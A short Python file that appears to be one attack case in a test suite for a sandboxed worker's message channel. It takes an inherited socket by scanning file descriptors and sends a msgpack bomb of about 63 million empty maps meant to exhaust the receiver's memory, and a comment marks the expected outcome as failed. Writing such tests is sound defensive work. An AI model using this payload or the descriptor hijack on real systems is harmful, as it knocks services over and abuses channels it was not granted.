"""Answers with sixty million empty maps, which are sixty megabytes on the wire and four gigabytes as objects."""
# ends: failed

import os
import socket
import struct

import msgspec


def wire():
    for number in reversed(range(3, 60)):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def attack(honest, *args, **kwargs):
    many = 60 << 20
    body = msgspec.msgpack.encode({"type": "value", "data": b"\xdd" + struct.pack(">I", many) + b"\x80" * many})
    wire().sendall(struct.pack("<Q", len(body)) + body)
    os._exit(0)
